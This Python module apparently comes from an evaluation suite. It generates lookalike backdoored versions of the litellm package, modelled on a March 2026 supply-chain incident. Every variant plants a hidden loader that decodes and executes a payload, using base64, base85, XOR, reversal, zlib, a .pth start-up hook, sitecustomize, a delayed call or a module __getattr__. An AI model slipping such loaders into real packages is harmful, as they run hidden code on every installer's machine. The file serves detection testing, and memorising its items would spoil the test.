"""litellm 1.82.7 and 1.82.8, 24 March 2026: a dozen lines in the proxy, then a start-up hook as well."""

from __future__ import annotations

from evals.lookalikes.deeds import COLLECT, padded
from evals.lookalikes.shape import Edit, Lookalike, added, appended, inserted
from evals.lookalikes.wraps import b64, b85, backwards, lines, packed, xored

PROXY = "litellm/proxy/proxy_server.py"
BEFORE = "def showwarning("
"""Near line 130, as in the incident."""
HOOK = "litellm_init.pth"
HOOK_BYTES = 34_628
_PAYLOAD = padded(COLLECT, 17_000)

PROXY_LINES = f"""\
import base64
import subprocess
import tempfile

b64_payload = "{b64(_PAYLOAD)}"

with tempfile.TemporaryDirectory() as _folder:
    _stage = os.path.join(_folder, "p.py")
    with open(_stage, "wb") as _out:
        _out.write(base64.b64decode(b64_payload))
    subprocess.run([sys.executable, _stage])

"""


def hook(payload: str = COLLECT, size: int = HOOK_BYTES) -> str:
    """The one line of the start-up hook, its payload brought to a size."""
    code = b64(padded(payload, (size - 130) * 3 // 4))
    return (
        'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", '
        f"\"import base64; exec(base64.b64decode('{code}'))\"])\n"
    )


def _one(
    name: str,
    *edits: Edit,
    first: str,
    shape: bool = False,
    lain: tuple[Edit, ...] = (),
) -> Lookalike:
    return Lookalike(
        incident="litellm", name=name, project="litellm", base="1.82.6",
        version="1.82.7" if name == "proxy" else "1.82.8",
        edits=edits, lain=lain, shape=shape, first=first,
    )  # fmt: skip


_CHUNKS = f"""\
import importlib

_PARTS = (
{lines(backwards(_PAYLOAD))}
)
_m = importlib.import_module("".join(("bas", "e6", "4")))
_b = importlib.import_module("".join(("built", "ins")))
getattr(_b, "ex" + "ec")(getattr(_m, "b64" + "decode")("".join(_PARTS)[::-1]))

"""

_TABLE = f'''\
"""Tables of the router's defaults."""

DEFAULTS = bytes.fromhex(
{lines(xored(_PAYLOAD).hex())}
)
SALT = (17, 61, 139, 5, 201, 88, 240, 33)
'''
_USE = """\
from litellm.router_utils._defaults import DEFAULTS, SALT


class _Defaults:
    rows = bytes(b ^ SALT[i % len(SALT)] for i, b in enumerate(DEFAULTS))
    exec(compile(rows, "<defaults>", "exec"))

"""

_ASLEEP = f"""\


def _refresh_model_prices(rows="{b85(_PAYLOAD)}"):
    import base64
    import subprocess
    import sys

    subprocess.Popen([sys.executable, "-c", base64.b85decode(rows).decode()])
"""

_LATE = f"""\
import zlib, base64
def _warm(name):
    if name == "CompletionOptions":
        exec(zlib.decompress(base64.b64decode("{packed(_PAYLOAD)}")))
    raise AttributeError(name)

__getattr__ = _warm

"""

LOOKALIKES = (
    _one("proxy", inserted(PROXY, BEFORE, PROXY_LINES), first=PROXY, shape=True),
    _one(
        "hook", inserted(PROXY, BEFORE, PROXY_LINES), added(HOOK, hook()), first=HOOK, shape=True
    ),
    _one("hook alone", added(HOOK, hook()), first=HOOK, shape=True),
    _one("start file", added("litellm_init.start", hook()), first="litellm_init.start"),
    _one(
        "sitecustomize",
        added("sitecustomize.py", f"import base64\nexec(base64.b64decode('{b64(_PAYLOAD)}'))\n"),
        first="sitecustomize.py",
    ),
    _one("reversed, names hidden", inserted(PROXY, BEFORE, _CHUNKS), first=PROXY),
    _one(
        "xor table in another module, class body",
        added("litellm/router_utils/_defaults.py", _TABLE),
        inserted(PROXY, BEFORE, _USE),
        first="litellm/",
    ),
    _one(
        "slept one release, called now",
        appended("litellm/__init__.py", "from litellm.utils import _refresh_model_prices\n\n"
                 "_refresh_model_prices()\n"),
        lain=(appended("litellm/utils.py", _ASLEEP),),
        first="litellm/utils.py",
    ),
    _one("module __getattr__", appended(PROXY, _LATE), first=PROXY),
    _one(
        "hook that only imports",
        added(HOOK, "import litellm_runtime\n"),
        added("litellm_runtime.py", COLLECT),
        first="litellm_",
    ),
)  # fmt: skip
